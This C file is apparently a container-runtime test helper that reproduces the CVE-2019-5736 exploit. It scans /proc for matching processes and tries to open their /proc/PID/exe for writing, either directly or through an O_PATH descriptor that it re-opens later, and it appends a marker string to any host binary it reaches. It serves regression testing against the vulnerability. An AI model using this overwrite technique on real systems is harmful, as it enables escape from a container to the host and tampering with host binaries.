/*
 * CVE-2019-5736 attacker, run inside a container by tests/tests/cve.rs.
 *
 *   hjattack NEEDLE STOPFILE MAXSECS   scan /proc until STOPFILE exists (or MAXSECS pass)
 *   hjattack --sleep SECS              a decoy: just sleep (run under a name with NEEDLE)
 *
 * For every process whose comm contains NEEDLE it tries what the original exploit did:
 * open /proc/PID/exe for writing directly, and open it with O_PATH and later re-open
 * /proc/self/fd/N for writing (which succeeds once the binary no longer runs). A
 * successful write-open appends a marker to the file. It prints one line per event:
 *   SEEN pid comm | OPENED-R pid comm dev:ino target | OPENED-W pid comm dev:ino target
 *   | SUMMARY ...
 * (dev:ino identify the opened file: the comm was read before the open, and the process
 * may have exec'd something else in between.)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXHELD 256
#define MAXSEEN 4096
#define MARK "\nHJTEST-CVE-2019-5736-WAS-HERE\n"

struct held {
    int fd;
    int pid;
    char comm[32];
    char target[600];
};

/* "dev:ino path" of what fd refers to. */
static void fd_target(int fd, char *buf, size_t len) {
    char p[64], path[512];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(p, path, sizeof path - 1);
    if (n < 0)
        n = 0;
    path[n] = 0;
    struct stat st;
    if (fstat(fd, &st) != 0)
        memset(&st, 0, sizeof st);
    snprintf(buf, len, "%llu:%llu %s", (unsigned long long)st.st_dev,
             (unsigned long long)st.st_ino, path);
}

static void pwn(int w, int pid, const char *comm, const char *target, long *opened_w) {
    ssize_t r = write(w, MARK, sizeof MARK - 1);
    (void)r;
    close(w);
    printf("OPENED-W %d %s %s\n", pid, comm, target);
    (*opened_w)++;
}

int main(int argc, char **argv) {
    if (argc >= 3 && strcmp(argv[1], "--sleep") == 0) {
        sleep((unsigned)atoi(argv[2]));
        return 0;
    }
    if (argc < 4) {
        fprintf(stderr, "usage: %s NEEDLE STOPFILE MAXSECS\n", argv[0]);
        return 2;
    }
    const char *needle = argv[1];
    const char *stop = argv[2];
    time_t end = time(NULL) + atoi(argv[3]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    int self = getpid();
    static struct held held[MAXHELD];
    int nheld = 0;
    static int seen_pids[MAXSEEN];
    int nseen = 0;
    long seen = 0, opened_r = 0, opened_w = 0, denied = 0;
    printf("READY %d\n", self);

    while (time(NULL) < end && access(stop, F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) {
            perror("opendir /proc");
            return 1;
        }
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char p[64], comm[32];
            snprintf(p, sizeof p, "/proc/%d/comm", pid);
            int cfd = open(p, O_RDONLY | O_CLOEXEC);
            if (cfd < 0)
                continue;
            ssize_t n = read(cfd, comm, sizeof comm - 1);
            close(cfd);
            if (n <= 0)
                continue;
            comm[n] = 0;
            comm[strcspn(comm, "\n")] = 0;
            if (!strstr(comm, needle))
                continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                if (seen_pids[i] == pid)
                    known = 1;
            if (!known) {
                if (nseen < MAXSEEN)
                    seen_pids[nseen++] = pid;
                seen++;
                printf("SEEN %d %s\n", pid, comm);
            }
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            /* Direct: almost always ETXTBSY while the binary runs. */
            int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                char target[600];
                fd_target(w, target, sizeof target);
                pwn(w, pid, comm, target, &opened_w);
                continue;
            }
            int already = 0;
            for (int i = 0; i < nheld; i++)
                if (held[i].pid == pid)
                    already = 1;
            if (already)
                continue;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    denied++;
                continue;
            }
            struct held *h = nheld < MAXHELD ? &held[nheld++] : NULL;
            char target[600];
            fd_target(fd, target, sizeof target);
            printf("OPENED-R %d %s %s\n", pid, comm, target);
            opened_r++;
            if (!h) {
                close(fd);
                continue;
            }
            h->fd = fd;
            h->pid = pid;
            snprintf(h->comm, sizeof h->comm, "%s", comm);
            snprintf(h->target, sizeof h->target, "%s", target);
        }
        closedir(d);
        /* Stage two: re-open what we hold for writing. */
        for (int i = 0; i < nheld; i++) {
            if (held[i].fd < 0)
                continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
            int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                pwn(w, held[i].pid, held[i].comm, held[i].target, &opened_w);
                close(held[i].fd);
                held[i].fd = -1;
            }
        }
    }
    printf("SUMMARY seen=%ld opened_r=%ld opened_w=%ld denied=%ld\n", seen, opened_r, opened_w,
           denied);
    return 0;
}
